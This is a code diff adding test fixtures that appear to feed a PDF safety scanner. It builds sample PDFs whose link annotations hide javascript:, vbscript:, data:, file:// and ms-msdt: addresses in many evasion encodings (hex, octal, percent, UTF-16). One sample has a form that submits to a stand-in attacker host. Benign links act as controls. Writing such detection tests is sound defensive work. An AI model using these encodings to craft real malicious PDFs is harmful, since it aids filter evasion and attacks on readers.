@@ -155,6 +155,80 @@ const acting: readonly Sample[] = [
   active('with a film', () => pdfOf({ page: '/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]' })),
 ];
 
+const linked = (action: string, objects: readonly string[] = []) =>
+  pdfOf({ page: `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<<${action}>>>>]`, objects });
+const link = (address: string) => linked(`/S/URI/URI${address}`);
+const inHex = (text: string) => `<${Buffer.from(text, 'latin1').toString('hex')}>`;
+
+/** Addresses that a click follows to something else than a page, as they may be written. */
+const ACTING_ADDRESSES: Readonly<Record<string, string>> = {
+  'that runs a script': '(javascript:app.alert\\(1\\))',
+  'that runs a script, in capitals': '(JaVaScRiPt:alert)',
+  'that runs a script, in hexadecimal digits': inHex('javascript:alert(1)'),
+  'that runs a script, in hexadecimal digits with blanks': '<6A 61 76 61 73 63 72 69 70 74 3A 31>',
+  'that runs a script, in codes': '(\\152avascript\\0721)',
+  'that runs a script, over two lines': '(java\\\nscript:1)',
+  'that runs a script, with a tabulator and blanks': '( java\\tscript :1)',
+  'that runs a script, in percent codes': '(%6aavascript%3A1)',
+  'that runs a script, in percent codes of percent codes': '(%256aavascript%253A1)',
+  'that runs a script, in UTF-16': `<feff${Buffer.from('javascript:1', 'utf16le').swap16().toString('hex')}>`,
+  'that runs a script of Visual Basic': '(vbscript:1)',
+  'that is a page of its own': '(data:text/html;base64,PHNjcmlwdD4=)',
+  'to a file': '(file:///c:/windows/system32/cmd.exe)',
+  'to a foreign machine': '(\\\\\\\\evil.example\\\\a)',
+  'that starts a program': '(ms-msdt:/id)',
+};
+
+const following: readonly Sample[] = [
+  ...Object.entries(ACTING_ADDRESSES).map(([title, address]) =>
+    active(`with a link ${title}`, () => link(address)),
+  ),
+  active('with a link whose address is an object of its own', () =>
+    linked('/S/URI/URI 5 0 R', ['(javascript:1)']),
+  ),
+  active('with a link that runs a script, packed', () =>
+    packedPdf('/Outlines<</First 4 0 R>>', ['<</Title(a)/A<</S/URI/URI(javascript:1)>>>>']),
+  ),
+  active('with a script after a link', () =>
+    linked('/S/URI/URI(https://www.oic.go.th)/Next<</S/JavaScript/JS(1)>>'),
+  ),
+  active('whose addresses begin with a script', () => pdfOf({ catalogue: '/URI<</Base(javascript:)>>' })),
+  active('with a link into another file', () => linked('/S/GoToR/F(b.pdf)/D[0/Fit]')),
+  active('with a link that sends a form', () => linked('/S/SubmitForm/F(https://evil.example)')),
+  active('with a link that takes data in', () => linked('/S/ImportData/F(a.fdf)')),
+  ...[
+    '(https://www.oic.go.th/?u=javascript:1)',
+    '(http://www.obec.go.th:8080/a%20b)',
+    '(mailto:saraban@obec.go.th)',
+    '(tel:+6622885000)',
+    '(www.obec.go.th:8080/a)',
+    '(%E0%B8%81%3A1.pdf)',
+    '(#page=2)',
+  ].map((address): Sample => ({
+    title: `PDF with a link to ${address}`,
+    name: 'ลิงก์.pdf',
+    bytes: () => link(address),
+    mediaType: pdf,
+  })),
+  {
+    title: 'PDF with a link to a place in itself',
+    name: 'สารบัญ.pdf',
+    bytes: () => linked('/S/GoTo/D[3 0 R /Fit]'),
+    mediaType: pdf,
+  },
+  {
+    title: 'PDF that is about scripts',
+    name: 'คู่มือ.pdf',
+    bytes: () =>
+      pdfOf({
+        catalogue: '/Lang(th)',
+        objects: ['<</Title(javascript: for beginners)>>'],
+        trailer: '/Info 5 0 R',
+      }),
+    mediaType: pdf,
+  },
+];
+
 const hiding: readonly Sample[] = [
   {
     title: 'PDF with a file attached inside',
@@ -227,4 +301,4 @@ const hiding: readonly Sample[] = [
   },
 ];
 
-export const PDF_SAMPLES: readonly Sample[] = [...honest, ...acting, ...hiding];
+export const PDF_SAMPLES: readonly Sample[] = [...honest, ...acting, ...following, ...hiding];
